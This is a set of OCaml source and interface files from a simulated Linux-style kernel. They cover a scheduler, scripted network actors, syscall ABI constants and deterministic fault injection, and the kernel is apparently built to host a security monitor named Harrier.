      | Exec_ed ->
        p.pending <- None;
        trace_done 0;
        k.k_monitor.on_post_syscall p sc ~result:0
    end

let run_quantum k (p : Process.t) =
  if p.pid <> k.last_run_pid then begin
    Obs.Counter.incr c_switches;
    k.last_run_pid <- p.pid
  end;
  let steps = ref 0 in
  (* constructor match, not polymorphic compare — this test runs once
     per simulated instruction *)
  let runnable () =
    match p.state with Process.Runnable -> true | _ -> false
  in
  while !steps < k.quantum && runnable () do
    (* tiered dispatch: a hot straight-line block retires as one unit
       (never overrunning the quantum — blocks longer than the
       remaining fuel are interpreted); everything else is exactly one
       interpreted step.  Ticks advance by the retired count before the
       outcome is handled, so a syscall observes the same clock as
       under per-instruction stepping. *)
    let out, n =
      Vm.Machine.step_block p.machine ~fuel:(k.quantum - !steps)
    in
    steps := !steps + n;
    k.k_ticks <- k.k_ticks + n;
    match out with
    | Continue -> ()
    | Syscall 0x80 -> handle_syscall k p ~retry:false
    | Syscall _ -> Vm.Machine.set_reg p.machine EAX (-38)
    | Stopped Halted -> p.state <- Exited 0
    | Stopped (Faulted f) ->
      p.state <- Killed (Fmt.to_to_string Vm.Machine.pp_fault f)
    | Stopped Running ->
      (* a VM invariant violation; contain it to this process *)
      p.state <- Killed "vm invariant: step returned Stopped Running"
  done

type report = {
  rep_ticks : int;
  rep_console : string;
  rep_final : (int * string * Process.run_state) list;
  rep_clones : int;
  rep_max_live : int;
}

let make_report k =
  { rep_ticks = k.k_ticks; rep_console = console k;
    rep_final =
      List.rev_map
        (fun (p : Process.t) -> p.pid, p.exe_path, p.state)
        k.procs;
    rep_clones = k.clones; rep_max_live = k.max_live }

let run k ~max_ticks =
  let running = ref true in
  while !running do
    let live = List.filter Process.is_live k.procs in
    if live = [] || k.k_ticks >= max_ticks then running := false
    else begin
      (* deliver Delay-gated script steps whose deadline passed *)
      Net.tick k.k_net k.k_ticks;
      (* wake sleepers whose deadline passed *)
      List.iter
        (fun (p : Process.t) ->
          match p.state with
          | Sleeping t when t <= k.k_ticks -> p.state <- Runnable
          | Sleeping _ | Runnable | Waiting_io | Exited _ | Killed _ -> ())
        live;
      (* retry blocked syscalls *)
      List.iter
        (fun (p : Process.t) ->
          if p.state = Waiting_io then handle_syscall k p ~retry:true)
        live;
      let runnable =
        List.filter (fun (p : Process.t) -> p.state = Runnable) live
      in
      if runnable = [] then begin
        let wakes =
          List.filter_map
            (fun (p : Process.t) ->
              match p.state with Sleeping t -> Some t | _ -> None)
            live
        in
        (* a pending network Delay also counts as a wake source: a
           guest blocked on recv is not "blocked forever" when a
           scripted delivery is merely late *)
        let wakes =
          match Net.next_wake k.k_net with
          | Some w -> w :: wakes
          | None -> wakes
        in
        match wakes with
        | [] ->
          (* every live process is blocked on I/O that can never arrive *)
          List.iter
            (fun (p : Process.t) ->
              if p.state = Waiting_io then
                p.state <- Killed "blocked forever (reaped)")
            live;
          running := false
        | w :: ws ->
          k.k_ticks <- max k.k_ticks (List.fold_left min w ws)
      end
      else
        (* round-robin: oldest process first *)
        List.iter
          (fun (p : Process.t) ->
            if p.state = Runnable && k.k_ticks < max_ticks then
              run_quantum k p)
          (List.rev runnable)
    end
  done;
  make_report k

let pp_report ppf r =
  let pp_proc ppf (pid, exe, state) =
    Fmt.pf ppf "pid %d %s: %a" pid exe Process.pp_state state
  in
  Fmt.pf ppf
    "@[<v>ticks: %d@,clones: %d@,max live: %d@,%a@,console: %S@]"
    r.rep_ticks r.rep_clones r.rep_max_live
    Fmt.(list ~sep:cut pp_proc)
    r.rep_final r.rep_console
