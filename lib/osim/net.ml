type step =
  | Send of string
  | Expect of int
  | Expect_str of string
  | Delay of int
  | Close

type actor = {
  actor_host : string;
  script : step list;
}

type sock_state =
  | Fresh
  | Bound of int
  | Listening of int
  | Connected of conn
  | Closed

and conn = {
  peer : string;
  local_name : string;
  mutable inbox : string;
  mutable sent : int;
  mutable outbox : string;
  mutable remaining : step list;
  mutable wake : int option;
  mutable remote_closed : bool;
  server_side : bool;
}

type socket = { sock_id : int; mutable state : sock_state }

type t = {
  mutable dns : (string * int) list;
  mutable servers : ((int * int) * actor) list;  (* (ip, port) -> actor *)
  mutable incoming : (int * actor) list;  (* listening port -> clients *)
  mutable sockets : socket list;
  mutable next_sock : int;
  mutable conns : conn list;
  mutable next_ephemeral : int;
  mutable now : int;
}

let c_delivered = Obs.Counter.make "osim.net.delayed_deliveries"

let create () =
  { dns = []; servers = []; incoming = []; sockets = []; next_sock = 1;
    conns = []; next_ephemeral = 36000; now = 0 }

let add_host t name ip = t.dns <- (name, ip) :: t.dns

let resolve t name = List.assoc_opt name t.dns

let host_of_ip t ip =
  match List.find_opt (fun (_, i) -> i = ip) t.dns with
  | Some (name, _) -> name
  | None ->
    Fmt.str "%d.%d.%d.%d" (ip land 0xFF) ((ip lsr 8) land 0xFF)
      ((ip lsr 16) land 0xFF) ((ip lsr 24) land 0xFF)

let hosts_db t =
  let b = Buffer.create 64 in
  List.iter
    (fun (name, ip) ->
      let padded =
        if String.length name >= 16 then String.sub name 0 16
        else name ^ String.make (16 - String.length name) '\000'
      in
      Buffer.add_string b padded;
      let w = Bytes.create 4 in
      Bytes.set_int32_le w 0 (Int32.of_int ip);
      Buffer.add_bytes b w)
    (List.rev t.dns);
  Buffer.contents b

let add_server t ~host ~port actor =
  let ip =
    match resolve t host with
    | Some ip -> ip
    | None -> failwith (Fmt.str "Net.add_server: unknown host %S" host)
  in
  t.servers <- ((ip, port), actor) :: t.servers

let add_incoming t ~port actor = t.incoming <- t.incoming @ [ port, actor ]

let new_socket t =
  let s = { sock_id = t.next_sock; state = Fresh } in
  t.next_sock <- t.next_sock + 1;
  t.sockets <- s :: t.sockets;
  s

let socket_by_id t id = List.find_opt (fun s -> s.sock_id = id) t.sockets

let find_sub hay needle =
  let nl = String.length needle and hl = String.length hay in
  if nl = 0 then Some 0
  else
    let rec go i =
      if i + nl > hl then None
      else if String.equal (String.sub hay i nl) needle then Some i
      else go (i + 1)
    in
    go 0

(* Advance the remote script as far as possible.  [Delay] and
   [Expect_str] are the dormancy primitives: a step that completes only
   once simulated time reaches a deadline, and one that completes only
   once the guest's outbound bytes contain an exact string. *)
let rec progress t conn =
  match conn.remaining with
  | [] -> ()
  | Send s :: rest ->
    conn.inbox <- conn.inbox ^ s;
    conn.remaining <- rest;
    progress t conn
  | Expect n :: rest ->
    if conn.sent >= n then begin
      conn.sent <- conn.sent - n;
      conn.remaining <- rest;
      progress t conn
    end
  | Expect_str s :: rest ->
    (match find_sub conn.outbox s with
     | Some i ->
       let stop = i + String.length s in
       conn.outbox <-
         String.sub conn.outbox stop (String.length conn.outbox - stop);
       conn.remaining <- rest;
       progress t conn
     | None -> ())
  | Delay d :: rest ->
    (match conn.wake with
     | None -> conn.wake <- Some (t.now + max 1 d)
     | Some w ->
       if t.now >= w then begin
         conn.wake <- None;
         conn.remaining <- rest;
         Obs.Counter.incr c_delivered;
         progress t conn
       end)
  | Close :: rest ->
    conn.remote_closed <- true;
    conn.remaining <- rest

(* Only scripts that still contain an [Expect_str] need the guest's
   outbound bytes retained for matching; everything else drops them so
   chatty connections stay O(1) in memory. *)
let wants_outbox conn =
  List.exists (function Expect_str _ -> true | _ -> false) conn.remaining

let make_conn t ~peer ~local_name ~script ~server_side =
  let conn =
    { peer; local_name; inbox = ""; sent = 0; outbox = ""; remaining = script;
      wake = None; remote_closed = false; server_side }
  in
  t.conns <- conn :: t.conns;
  progress t conn;
  conn

let connect t sock ~ip ~port =
  match List.assoc_opt (ip, port) t.servers with
  | None -> None
  | Some actor ->
    let peer = Fmt.str "%s:%d" (host_of_ip t ip) port in
    let local = Fmt.str "LocalHost:%d" t.next_ephemeral in
    t.next_ephemeral <- t.next_ephemeral + 1;
    let conn =
      make_conn t ~peer ~local_name:local ~script:actor.script
        ~server_side:false
    in
    sock.state <- Connected conn;
    Some conn

let accept t sock =
  match sock.state with
  | Listening port ->
    let rec take acc = function
      | [] -> None
      | (p, actor) :: rest when p = port ->
        t.incoming <- List.rev_append acc rest;
        Some actor
      | entry :: rest -> take (entry :: acc) rest
    in
    (match take [] t.incoming with
     | None -> None
     | Some actor ->
       let peer = Fmt.str "%s:%d" actor.actor_host t.next_ephemeral in
       t.next_ephemeral <- t.next_ephemeral + 1;
       let local = Fmt.str "LocalHost:%d" port in
       Some (make_conn t ~peer ~local_name:local ~script:actor.script
               ~server_side:true))
  | Fresh | Bound _ | Connected _ | Closed -> None

let guest_send t conn s =
  conn.sent <- conn.sent + String.length s;
  if wants_outbox conn then conn.outbox <- conn.outbox ^ s;
  progress t conn

let guest_recv conn n =
  let avail = String.length conn.inbox in
  if avail = 0 then ""
  else begin
    let n = min n avail in
    let chunk = String.sub conn.inbox 0 n in
    conn.inbox <- String.sub conn.inbox n (avail - n);
    chunk
  end

let tick t now =
  if now > t.now then t.now <- now;
  List.iter (fun c -> if c.wake <> None then progress t c) t.conns

let next_wake t =
  List.fold_left
    (fun acc c ->
      match c.wake, acc with
      | Some w, Some a -> Some (min w a)
      | Some w, None -> Some w
      | None, _ -> acc)
    None t.conns

let conn_log t = List.rev_map (fun c -> c.peer, c.sent) t.conns
