(** The guest ABI: Linux-style syscall numbers, socketcall sub-codes,
    errno values, open flags and the sockaddr layout.

    Calling convention (i386 Linux): syscall number in [eax], arguments in
    [ebx], [ecx], [edx], [esi], [edi]; result (or negated errno) in
    [eax]; trap via [int $0x80]. *)

(** {2 Syscall numbers} *)

val sys_exit : int
val sys_fork : int
val sys_read : int
val sys_write : int
val sys_open : int
val sys_close : int
val sys_creat : int
val sys_execve : int
val sys_time : int
val sys_getpid : int
val sys_dup : int
val sys_brk : int
val sys_socketcall : int
val sys_clone : int
val sys_nanosleep : int

(** [syscall_name n] is the paper's event label, e.g. ["SYS_execve"]. *)
val syscall_name : int -> string

(** {2 socketcall sub-codes} *)

val sock_socket : int
val sock_bind : int
val sock_connect : int
val sock_listen : int
val sock_accept : int
val sock_send : int
val sock_recv : int

(** {2 errno (returned negated in eax)} *)

val enoent : int
val eio : int
val ebadf : int
val eagain : int
val enomem : int
val eacces : int
val enoexec : int
val einval : int
val emfile : int
val econnreset : int
val econnrefused : int

(** [errno_name e] is the symbolic name, e.g. ["ENOENT"] (counter labels
    and fault-plan rendering). *)
val errno_name : int -> string

(** {2 open flags} *)

val o_rdonly : int
val o_wronly : int
val o_rdwr : int
val o_creat : int
val o_trunc : int
val o_append : int

(** {2 Standard file descriptors} *)

val stdin_fd : int
val stdout_fd : int
val stderr_fd : int

(** {2 sockaddr}

    The guest sockaddr is 8 bytes: a 32-bit little-endian IPv4 address
    followed by a 16-bit little-endian port and 2 bytes of padding. *)

val sockaddr_size : int

(** [read_sockaddr read_word read_byte addr] decodes [(ip, port)]. *)
val read_sockaddr : (int -> int) -> int -> int * int

(** [write_sockaddr write_byte addr ~ip ~port] encodes a sockaddr. *)
val write_sockaddr : (int -> int -> unit) -> int -> ip:int -> port:int -> unit
