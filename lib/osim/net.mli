(** The simulated network.

    Remote machines are {e scripted actors}: a list of steps executed
    eagerly whenever the connection makes progress.  An actor either
    plays a {e server} the guest connects to, or a {e client} that shows
    up on a port the guest is listening on (the pma daemon's attacker).

    Name resolution is a host table (rendered into [/etc/hosts.db] for
    the guest libc to parse); peer names such as ["attacker:4444"] are
    what taint tags and warnings display. *)

(** One step of a remote actor's script. *)
type step =
  | Send of string  (** push bytes towards the guest *)
  | Expect of int  (** wait until the guest has sent [n] more bytes *)
  | Expect_str of string
      (** wait until the guest's outbound bytes contain this exact
          string (a protocol round keyed on content, not length) *)
  | Delay of int
      (** wait [n] simulated ticks before the next step — the dormancy
          primitive: triggers arrive only after a long quiet period *)
  | Close  (** close the remote end *)

type actor = {
  actor_host : string;  (** remote host name, e.g. ["attacker"] *)
  script : step list;
}

(** Socket lifecycle, driven by the kernel. *)
type sock_state =
  | Fresh
  | Bound of int  (** port *)
  | Listening of int
  | Connected of conn
  | Closed

and conn = {
  peer : string;  (** display / taint name, e.g. ["attacker:4444"] *)
  local_name : string;  (** e.g. ["LocalHost:11111"] *)
  mutable inbox : string;  (** bytes from remote, not yet recv'd *)
  mutable sent : int;  (** total bytes the guest has sent *)
  mutable outbox : string;  (** guest bytes retained for [Expect_str] *)
  mutable remaining : step list;  (** rest of the actor script *)
  mutable wake : int option;  (** deadline of a pending [Delay] step *)
  mutable remote_closed : bool;
  server_side : bool;  (** true when the guest accepted this connection *)
}

type socket = { sock_id : int; mutable state : sock_state }

type t

val create : unit -> t

(** {2 World configuration} *)

(** [add_host t name ip] registers a DNS entry. *)
val add_host : t -> string -> int -> unit

(** [resolve t name] is the IP bound to [name]. *)
val resolve : t -> string -> int option

(** [host_of_ip t ip] renders an IP back to a name (dotted quad if
    unknown). *)
val host_of_ip : t -> int -> string

(** [hosts_db t] serializes the DNS table in the guest format: records of
    16 NUL-padded name bytes followed by a 32-bit little-endian IP. *)
val hosts_db : t -> string

(** [add_server t ~host ~port actor] makes [host:port] accept guest
    connections, animated by [actor]'s script. *)
val add_server : t -> host:string -> port:int -> actor -> unit

(** [add_incoming t ~port actor] queues a scripted remote client that will
    complete a guest [accept] on [port]. *)
val add_incoming : t -> port:int -> actor -> unit

(** {2 Socket operations (used by the kernel)} *)

val new_socket : t -> socket

val socket_by_id : t -> int -> socket option

(** [connect t sock ~ip ~port] connects to a scripted server.
    Returns the established connection or [None] (ECONNREFUSED). *)
val connect : t -> socket -> ip:int -> port:int -> conn option

(** [accept t sock] completes a pending scripted client on the listening
    port, if one is queued. *)
val accept : t -> socket -> conn option

(** [guest_send t conn s] delivers guest bytes to the remote and advances
    its script. *)
val guest_send : t -> conn -> string -> unit

(** [guest_recv conn n] takes up to [n] available bytes; [""] means
    no data yet (or EOF if [remote_closed]). *)
val guest_recv : conn -> int -> string

(** {2 Simulated time (used by the kernel scheduler)} *)

(** [tick t now] advances the network clock to [now] (monotone) and
    re-runs every script stalled on a [Delay] whose deadline passed. *)
val tick : t -> int -> unit

(** [next_wake t] is the earliest pending [Delay] deadline across all
    connections, if any — the scheduler fast-forwards to it instead of
    reaping guests blocked on a delivery that is merely late. *)
val next_wake : t -> int option

(** [conn_log t] lists every connection established so far, for reports:
    (peer, bytes the guest sent). *)
val conn_log : t -> (string * int) list
