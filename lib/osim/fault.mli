(** Deterministic fault injection for the simulated kernel.

    A {!plan} decides, per syscall attempt, whether the kernel should
    deliver a fault instead of (or while) executing the call.  Plans are
    pure descriptions; the kernel holds a {!state} (per-world occurrence
    counters) created by {!start}, so identical worlds driven by the same
    plan take byte-identical fault decisions — traces of faulted runs
    stay reproducible.

    Two plan shapes exist:
    - explicit rules, selected by (syscall, resource substring,
      nth occurrence) — written by hand or parsed from the
      [--fault-plan] SPEC syntax;
    - seeded plans, where a pure hash of
      [(seed, syscall, resource, occurrence)] picks injection points and
      fault kinds pseudo-randomly but deterministically.

    The kernel emits every injection as an [Obs.Trace] "fault" event and
    counts it under [osim.faults.injected.<kind>]. *)

(** What to inject. *)
type kind =
  | Errno of int  (** fail the call with [-errno] *)
  | Short  (** truncate a read/write length (at least 1 byte survives) *)
  | Stall  (** block the call for one scheduler round (peer stall) *)
  | Reset  (** fail a socket call with [-ECONNRESET] *)

(** [kind_name k] is the counter/trace label: the lowercase errno name
    ("enoent") or "short" / "stall" / "reset". *)
val kind_name : kind -> string

(** One explicit injection site. *)
type rule = {
  r_call : string option;  (** syscall name ("SYS_open"); [None] = any *)
  r_res : string option;
      (** substring of the resource name (path, peer, "stdin");
          [None] = any *)
  r_nth : int option;
      (** fire only on the nth matching occurrence (1-based);
          [None] = every occurrence *)
  r_kind : kind;
}

type plan

(** The plan that never injects ([start none] decides [None] always). *)
val none : plan

val is_none : plan -> bool

(** [rules rs] builds an explicit plan. *)
val rules : rule list -> plan

(** [seeded ?rate seed] injects on roughly [1/rate] of the syscalls that
    have an applicable fault kind (default rate 16), choosing the kind
    from the applicable set — ENOENT/EIO/ENOMEM on opens, EIO/short on
    file reads and writes, ECONNRESET/short/stall on socket traffic,
    EAGAIN on clone. *)
val seeded : ?rate:int -> int -> plan

(** [parse spec] reads the [--fault-plan] syntax: comma-separated rules
    [CALL[@RESOURCE][#N]=KIND] where [CALL] is a syscall name or [*],
    [RESOURCE] a resource-name substring, [N] the 1-based occurrence,
    and [KIND] one of [enoent], [eio], [enomem], [eagain], [econnreset],
    [short], [stall], [reset].
    Example: ["SYS_open@/etc/passwd#2=enoent,SYS_read=short"]. *)
val parse : string -> (plan, string) result

val to_string : plan -> string

(** Mutable per-world decision state (occurrence counters). *)
type state

val start : plan -> state

val active : state -> bool

(** [decide st ~call ~res ~sock] is consulted once per non-retried
    syscall attempt; it advances the [(call, res)] occurrence counter
    and returns the fault to inject, if any.  [sock] marks socket
    resources (selects the socket fault set for seeded plans). *)
val decide : state -> call:string -> res:string -> sock:bool -> kind option
