let sys_exit = 1
let sys_fork = 2
let sys_read = 3
let sys_write = 4
let sys_open = 5
let sys_close = 6
let sys_creat = 8
let sys_execve = 11
let sys_time = 13
let sys_getpid = 20
let sys_dup = 41
let sys_brk = 45
let sys_socketcall = 102
let sys_clone = 120
let sys_nanosleep = 162

let syscall_name n =
  if n = sys_exit then "SYS_exit"
  else if n = sys_fork then "SYS_fork"
  else if n = sys_read then "SYS_read"
  else if n = sys_write then "SYS_write"
  else if n = sys_open then "SYS_open"
  else if n = sys_close then "SYS_close"
  else if n = sys_creat then "SYS_creat"
  else if n = sys_execve then "SYS_execve"
  else if n = sys_time then "SYS_time"
  else if n = sys_getpid then "SYS_getpid"
  else if n = sys_dup then "SYS_dup"
  else if n = sys_brk then "SYS_brk"
  else if n = sys_socketcall then "SYS_socketcall"
  else if n = sys_clone then "SYS_clone"
  else if n = sys_nanosleep then "SYS_nanosleep"
  else Fmt.str "SYS_%d" n

let sock_socket = 1
let sock_bind = 2
let sock_connect = 3
let sock_listen = 4
let sock_accept = 5
let sock_send = 9
let sock_recv = 10

let enoent = 2
let eio = 5
let ebadf = 9
let eagain = 11
let enomem = 12
let eacces = 13
let enoexec = 8
let einval = 22
let emfile = 24
let econnreset = 104
let econnrefused = 111

let errno_name e =
  if e = enoent then "ENOENT"
  else if e = eio then "EIO"
  else if e = ebadf then "EBADF"
  else if e = eagain then "EAGAIN"
  else if e = enomem then "ENOMEM"
  else if e = eacces then "EACCES"
  else if e = enoexec then "ENOEXEC"
  else if e = einval then "EINVAL"
  else if e = emfile then "EMFILE"
  else if e = econnreset then "ECONNRESET"
  else if e = econnrefused then "ECONNREFUSED"
  else Fmt.str "E%d" e

let o_rdonly = 0
let o_wronly = 1
let o_rdwr = 2
let o_creat = 64
let o_trunc = 512
let o_append = 1024

let stdin_fd = 0
let stdout_fd = 1
let stderr_fd = 2

let sockaddr_size = 8

let read_sockaddr read_word addr =
  let w0 = read_word addr in
  let w1 = read_word (addr + 4) in
  w0, w1 land 0xFFFF

let write_sockaddr write_byte addr ~ip ~port =
  write_byte addr (ip land 0xFF);
  write_byte (addr + 1) ((ip lsr 8) land 0xFF);
  write_byte (addr + 2) ((ip lsr 16) land 0xFF);
  write_byte (addr + 3) ((ip lsr 24) land 0xFF);
  write_byte (addr + 4) (port land 0xFF);
  write_byte (addr + 5) ((port lsr 8) land 0xFF);
  write_byte (addr + 6) 0;
  write_byte (addr + 7) 0
