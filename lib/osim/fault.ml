type kind =
  | Errno of int
  | Short
  | Stall
  | Reset

let kind_name = function
  | Errno e -> String.lowercase_ascii (Abi.errno_name e)
  | Short -> "short"
  | Stall -> "stall"
  | Reset -> "reset"

type rule = {
  r_call : string option;
  r_res : string option;
  r_nth : int option;
  r_kind : kind;
}

type plan =
  | None_
  | Rules of rule list
  | Seeded of { seed : int; rate : int }

let none = None_

let is_none = function None_ -> true | Rules _ | Seeded _ -> false

let rules rs = Rules rs

let seeded ?(rate = 16) seed = Seeded { seed; rate = max 1 rate }

(* ------------------------------------------------------------------ *)
(* SPEC syntax                                                         *)

let kind_of_string = function
  | "enoent" -> Ok (Errno Abi.enoent)
  | "eio" -> Ok (Errno Abi.eio)
  | "enomem" -> Ok (Errno Abi.enomem)
  | "eagain" -> Ok (Errno Abi.eagain)
  | "ebadf" -> Ok (Errno Abi.ebadf)
  | "econnreset" | "reset" -> Ok Reset
  | "short" -> Ok Short
  | "stall" -> Ok Stall
  | s -> Error (Fmt.str "unknown fault kind %S" s)

let ( let* ) = Result.bind

let parse_rule s =
  match String.index_opt s '=' with
  | None -> Error (Fmt.str "rule %S: expected CALL[@RES][#N]=KIND" s)
  | Some eq ->
    let lhs = String.sub s 0 eq in
    let rhs = String.sub s (eq + 1) (String.length s - eq - 1) in
    let* k = kind_of_string rhs in
    let lhs, nth =
      match String.rindex_opt lhs '#' with
      | None -> lhs, Ok None
      | Some h ->
        let n = String.sub lhs (h + 1) (String.length lhs - h - 1) in
        ( String.sub lhs 0 h,
          match int_of_string_opt n with
          | Some n when n >= 1 -> Ok (Some n)
          | Some _ | None ->
            Error (Fmt.str "rule %S: occurrence %S must be a positive int" s n)
        )
    in
    let* nth = nth in
    let call, res =
      match String.index_opt lhs '@' with
      | None -> lhs, None
      | Some a ->
        ( String.sub lhs 0 a,
          Some (String.sub lhs (a + 1) (String.length lhs - a - 1)) )
    in
    let* call =
      match call with
      | "" -> Error (Fmt.str "rule %S: empty syscall (use * for any)" s)
      | "*" -> Ok None
      | c -> Ok (Some c)
    in
    (match res with
     | Some "" -> Error (Fmt.str "rule %S: empty resource after @" s)
     | Some _ | None ->
       Ok { r_call = call; r_res = res; r_nth = nth; r_kind = k })

let parse spec =
  if String.trim spec = "" then Error "empty fault plan"
  else
    let rec go acc = function
      | [] -> Ok (Rules (List.rev acc))
      | r :: rest ->
        let* rule = parse_rule (String.trim r) in
        go (rule :: acc) rest
    in
    go [] (String.split_on_char ',' spec)

let rule_to_string r =
  Fmt.str "%s%s%s=%s"
    (Option.value r.r_call ~default:"*")
    (match r.r_res with Some p -> "@" ^ p | None -> "")
    (match r.r_nth with Some n -> Fmt.str "#%d" n | None -> "")
    (kind_name r.r_kind)

let to_string = function
  | None_ -> "none"
  | Rules rs -> String.concat "," (List.map rule_to_string rs)
  | Seeded { seed; rate } -> Fmt.str "seed:%d/rate:%d" seed rate

(* ------------------------------------------------------------------ *)
(* Decision state                                                      *)

let is_substring ~sub s =
  let n = String.length sub and m = String.length s in
  if n = 0 then true
  else begin
    let rec at i = i + n <= m && (String.sub s i n = sub || at (i + 1)) in
    at 0
  end

type state = {
  plan : plan;
  counts : (string, int) Hashtbl.t;  (* "call|res" -> occurrences seen *)
}

let start plan = { plan; counts = Hashtbl.create 16 }

let active st = not (is_none st.plan)

(* Pure 62-bit mixer (splitmix-flavoured); determinism matters, quality
   only needs to be good enough to spread injections around. *)
let mix h x =
  let h = (h lxor x) * 0x9E3779B97F4A7C1 in
  (h lxor (h lsr 31)) land max_int

let mix_string h s =
  let acc = ref (mix h (String.length s)) in
  String.iter (fun c -> acc := mix !acc (Char.code c)) s;
  !acc

(* Fault kinds that make sense for each call; seeded plans only draw
   from this set so every injection is a fault the real syscall could
   plausibly report. *)
let applicable ~call ~sock =
  match call with
  | "SYS_open" | "SYS_creat" ->
    [ Errno Abi.enoent; Errno Abi.eio; Errno Abi.enomem ]
  | ("SYS_read" | "SYS_write") when sock -> [ Reset; Short; Stall ]
  | "SYS_read" | "SYS_write" -> [ Errno Abi.eio; Short ]
  | "SYS_clone" -> [ Errno Abi.eagain ]
  | "SYS_connect" -> [ Reset; Stall ]
  | _ -> []

let decide st ~call ~res ~sock =
  match st.plan with
  | None_ -> None
  | plan ->
    let key = call ^ "|" ^ res in
    let n = 1 + Option.value (Hashtbl.find_opt st.counts key) ~default:0 in
    Hashtbl.replace st.counts key n;
    (match plan with
     | None_ -> None
     | Rules rs ->
       List.find_map
         (fun r ->
           let call_ok =
             match r.r_call with None -> true | Some c -> String.equal c call
           in
           let res_ok =
             match r.r_res with
             | None -> true
             | Some sub -> is_substring ~sub res
           in
           let nth_ok =
             match r.r_nth with None -> true | Some want -> want = n
           in
           if call_ok && res_ok && nth_ok then Some r.r_kind else None)
         rs
     | Seeded { seed; rate } ->
       (match applicable ~call ~sock with
        | [] -> None
        | kinds ->
          let h = mix (mix_string (mix_string (mix 7 seed) call) res) n in
          if h mod rate <> 0 then None
          else Some (List.nth kinds ((h lsr 16) mod List.length kinds))))
