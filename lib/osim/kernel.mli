(** The simulated kernel: loader, scheduler and syscall dispatch.

    The kernel owns the filesystem, the network, the process table and
    the global tick counter (time = instructions executed, the paper's
    event timestamp).  A {!monitor} — Harrier, in the full framework —
    observes image loads, process starts, forks and system calls, and may
    decide to kill a process when the user rejects a warning. *)

(** The monitor's verdict before a syscall executes. *)
type decision = Allow | Kill

(** Monitor callbacks.  All fields are mutable so the monitor can be wired
    after the kernel is created (the kernel and monitor reference each
    other). *)
type monitor = {
  mutable on_process_start : Process.t -> unit;
      (** fired after the machine is set up (initial stack in place) and
          before image-load notifications *)
  mutable on_image_load : Process.t -> Binary.Image.t -> unit;
  mutable on_pre_syscall : Process.t -> Syscall.t -> decision;
  mutable on_post_syscall : Process.t -> Syscall.t -> result:int -> unit;
  mutable on_fork : parent:Process.t -> child:Process.t -> unit;
}

(** A monitor that observes nothing and allows everything. *)
val null_monitor : unit -> monitor

type t

(** Absolute top of the initial stack; argv/env strings live in
    [esp, stack_top) at process start and are tagged USER_INPUT by the
    monitor. *)
val stack_top : int

(** [create ~fs ~net ()] builds a world.  [hooks] is installed on every
    machine (the monitor mutates its fields); [user_input] scripts the
    bytes read from stdin; [quantum] is the scheduler time slice in
    instructions; [max_procs] bounds the process table ([fork] then fails
    with EAGAIN, taming fork bombs); [fault] injects deterministic
    syscall faults (default {!Fault.none}) — every injection is counted
    under [osim.faults.injected.<kind>] and emitted as an [Obs.Trace]
    "fault" event. *)
val create :
  ?quantum:int ->
  ?max_procs:int ->
  ?monitor:monitor ->
  ?hooks:Vm.Machine.hooks ->
  ?user_input:string list ->
  ?fault:Fault.plan ->
  fs:Fs.t ->
  net:Net.t ->
  unit ->
  t

val fs : t -> Fs.t

val net : t -> Net.t

val monitor : t -> monitor

val hooks : t -> Vm.Machine.hooks

(** [ticks k] is the world clock: total instructions executed. *)
val ticks : t -> int

val processes : t -> Process.t list

(** [live_count k] is the number of non-terminated processes. *)
val live_count : t -> int

(** [clone_total k] counts successful forks since creation. *)
val clone_total : t -> int

(** [console k] is everything guests wrote to stdout/stderr so far. *)
val console : t -> string

(** [spawn k ~path ~argv] loads the executable at [path] (plus needed
    shared objects), sets up the initial stack (argv and [env] strings,
    all tagged USER_INPUT by the monitor) and schedules the new
    process. *)
val spawn :
  ?env:string list -> t -> path:string -> argv:string list ->
  (Process.t, string) result

type report = {
  rep_ticks : int;
  rep_console : string;
  rep_final : (int * string * Process.run_state) list;
      (** (pid, executable path, final state) *)
  rep_clones : int;
  rep_max_live : int;
}

(** [run k ~max_ticks] drives the scheduler until every process
    terminates, the tick budget is exhausted, or the world deadlocks
    (remaining blocked processes are then reaped as killed). *)
val run : t -> max_ticks:int -> report

val pp_report : Format.formatter -> report -> unit
