(** The simulated kernel: loader, scheduler and syscall dispatch.

    The kernel owns the filesystem, the network, the process table and
    the global tick counter (time = instructions executed, the paper's
    event timestamp).  A {!monitor} — Harrier, in the full framework —
    observes image loads, process starts, forks and system calls, and may
    decide to kill a process when the user rejects a warning. *)

(** The monitor's verdict before a syscall executes. *)
type decision = Allow | Kill

(** Monitor callbacks.  All fields are mutable so the monitor can be wired
    after the kernel is created (the kernel and monitor reference each
    other). *)
type monitor = {
  mutable on_process_start : Process.t -> unit;
      (** fired after the machine is set up (initial stack in place) and
          before image-load notifications *)
  mutable on_image_load : Process.t -> Binary.Image.t -> unit;
  mutable on_pre_syscall : Process.t -> Syscall.t -> decision;
  mutable on_post_syscall : Process.t -> Syscall.t -> result:int -> unit;
  mutable on_fork : parent:Process.t -> child:Process.t -> unit;
}

(** A monitor that observes nothing and allows everything. *)
val null_monitor : unit -> monitor

type t

(** Absolute top of the initial stack; argv/env strings live in
    [esp, stack_top) at process start and are tagged USER_INPUT by the
    monitor. *)
val stack_top : int

(** [create ~fs ~net ()] builds a world.  [hooks] is installed on every
    machine (the monitor mutates its fields); [user_input] scripts the
    bytes read from stdin; [quantum] is the scheduler time slice in
    instructions; [max_procs] bounds the process table ([fork] then fails
    with EAGAIN, taming fork bombs); [fault] injects deterministic
    syscall faults (default {!Fault.none}) — every injection is counted
    under [osim.faults.injected.<kind>] and emitted as an [Obs.Trace]
    "fault" event; [mem_pool] recycles guest address-space buffers
    across sequential worlds (see {!recycle}). *)
val create :
  ?quantum:int ->
  ?max_procs:int ->
  ?monitor:monitor ->
  ?hooks:Vm.Machine.hooks ->
  ?user_input:string list ->
  ?fault:Fault.plan ->
  ?mem_pool:Vm.Machine.mem_pool ->
  fs:Fs.t ->
  net:Net.t ->
  unit ->
  t

(** [recycle k] returns every process's address space to the memory
    pool the kernel was created with (a no-op without one).  Call after
    the final {!run}; the kernel must not be used afterwards. *)
val recycle : t -> unit

val fs : t -> Fs.t

val net : t -> Net.t

val monitor : t -> monitor

val hooks : t -> Vm.Machine.hooks

(** [ticks k] is the world clock: total instructions executed. *)
val ticks : t -> int

val processes : t -> Process.t list

(** [live_count k] is the number of non-terminated processes. *)
val live_count : t -> int

(** [clone_total k] counts successful forks since creation. *)
val clone_total : t -> int

(** [console k] is everything guests wrote to stdout/stderr so far. *)
val console : t -> string

(** [spawn k ~path ~argv] loads the executable at [path] (plus needed
    shared objects), sets up the initial stack (argv and [env] strings,
    all tagged USER_INPUT by the monitor) and schedules the new
    process.  [images] supplies the pre-linked image closure for [path]
